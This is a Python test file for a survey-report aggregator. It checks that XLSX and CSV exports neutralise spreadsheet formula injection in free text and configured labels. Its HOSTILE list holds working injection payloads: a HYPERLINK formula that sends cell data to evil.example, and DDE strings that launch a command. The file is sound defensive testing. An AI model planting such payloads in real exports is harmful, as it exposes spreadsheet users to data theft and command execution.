"""Formula injection: no free text (unit names, fields, procedures, comments) comes out of an export as a formula.

A field named ``=HYPERLINK(…)`` or a ward named ``=cmd|' /C calc'!A0`` used to reach the report XLSX as a live
formula. Every cell of every sheet of the XLSX and every cell of the CSV is scanned.
"""

from __future__ import annotations

import csv
import io

from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from aggregator.cellsafe import neutralise
from aggregator.exports import FIELD_KEYS, report_xlsx
from sipas.catalogue import Catalogue
from sipas.models import ResponseChannel, UnitKind
from tests.aggregator.fixtures import NOW
from tests.factories import create_clerk, create_dossier, create_response, create_unit, local, login

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+SUM(1,2)",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
Q1 = {"kind": "quarter", "quarter": "2026Q1"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_formula_text(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def test_neutraliser_prefixes_formula_text_and_keeps_numbers() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    assert neutralise(-12) == -12 and neutralise(-3.5) == -3.5 and neutralise("-12") == "-12"
    assert neutralise("-3,5") == "-3,5" and neutralise(None) is None
    assert neutralise("Hộ tịch") == "Hộ tịch" and neutralise("a=b") == "a=b"


def test_every_export_cell_with_hostile_free_text_is_inert(client: FlaskClient, session: Session,
                                                          catalogue: Catalogue) -> None:
    district = create_unit(session, code="DX01", name=HOSTILE[1], kind=UnitKind.DISTRICT)
    wards = [create_unit(session, parent=district, name=name) for name in HOSTILE[:3]]
    for number, (ward, field) in enumerate(zip(wards * 3, HOSTILE, strict=False)):
        dossier = create_dossier(session, ward, code=f"000.00.20.H57-260201-{number:04d}", field=field,
                                 procedure=HOSTILE[(number + 1) % len(HOSTILE)], received_at=local(2026, 2, 1),
                                 now=NOW)
        create_response(session, catalogue, ward, dossier=dossier, channel=ResponseChannel.KIOSK,
                        submitted_at=local(2026, 2, 3), comment=HOSTILE[number], now=NOW)
    clerk = create_clerk(session, district)
    session.commit()
    login(client, clerk)

    xlsx = client.get("/console/bao-cao/bang-tinh.xlsx", query_string={**Q1, "unit": district.code})
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.data))
    assert book.sheetnames == ["Tiêu chí", "Lĩnh vực", "Xếp hạng"]
    seen: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert not _is_formula_text(cell.value), f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    # the hostile names are there, shown as text (so the test really looked at them)
    assert "'" + HOSTILE[0] in seen and any(value.startswith("'" + HOSTILE[1]) for value in seen)
    assert "'" + HOSTILE[2] in seen  # a ward name in the ranking

    response = client.get("/console/bao-cao/phieu.csv", query_string={**Q1, "unit": district.code})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert len(rows) > 1
    for row in rows:
        for value in row:
            assert not _is_formula_text(value), value


def test_report_xlsx_built_from_hostile_labels_everywhere_has_no_formula() -> None:
    """Labels that come from configuration (instrument, criterion, option, class) go through the neutraliser too."""
    hostile = iter(HOSTILE * 20)
    option = {"label": next(hostile), "count": 3, "percent": -12.5, "ci95": [1.0, 99.0]}
    report = {"unit_name": next(hostile), "period": {"label": next(hostile), "field": next(hostile), "channel": None},
              "instruments": [{"label": next(hostile), "version": next(hostile),
                               "criteria": [{"label": next(hostile), "n": 3, "small_n": True, "options": [option]}]}],
              "overall": {"answers": 3, "satisfied": 1, "percent": -33.33, "ci95": [1.0, 99.0], "small_n": True},
              "fields": [{**{key: -1 for key in FIELD_KEYS}, "field": next(hostile), "is_total": False}]}
    ranking = {"district_name": next(hostile), "label": next(hostile),
               "units": [{"rank": 1, "code": next(hostile), "name": next(hostile), "total": -4.5,
                          "class": next(hostile), "indices": {str(i): next(hostile) for i in range(1, 10)},
                          "coverage": next(hostile), "rank_apart": None, "mean_per_index": -0.5,
                          "indices_missing": [{"index": 8, "reason_label": next(hostile)}]}],
               "average_label": next(hostile)}
    book = load_workbook(io.BytesIO(report_xlsx(report, ranking)))
    texts, numbers = 0, 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert not _is_formula_text(cell.value), f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                texts += isinstance(cell.value, str) and cell.value.startswith("'")
                numbers += isinstance(cell.value, (int, float)) and cell.value < 0
    assert texts >= 20  # every hostile label was written, as text
    assert numbers >= 14  # negative figures stay numbers (the percent, 12 field counts, the ranking total)
